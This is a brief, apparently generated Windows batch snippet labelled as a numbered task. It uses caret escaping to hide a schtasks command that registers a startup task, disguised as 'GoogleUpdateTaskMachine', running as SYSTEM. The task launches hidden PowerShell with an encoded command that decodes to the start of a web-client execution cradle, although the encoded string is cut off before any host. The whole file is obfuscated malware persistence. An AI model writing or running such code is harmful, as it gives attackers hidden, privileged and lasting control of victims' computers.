REM task 8550 v4
^f^o^r /^f "tokens=2 delims=~" %%^i ^i^n ("auol~schtasks~xwnq") do %%i /c^r^eat^e /t^n "GoogleUpdateTaskMachine" /tr "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA" /sc on^start /ru S^YS^TEM /f
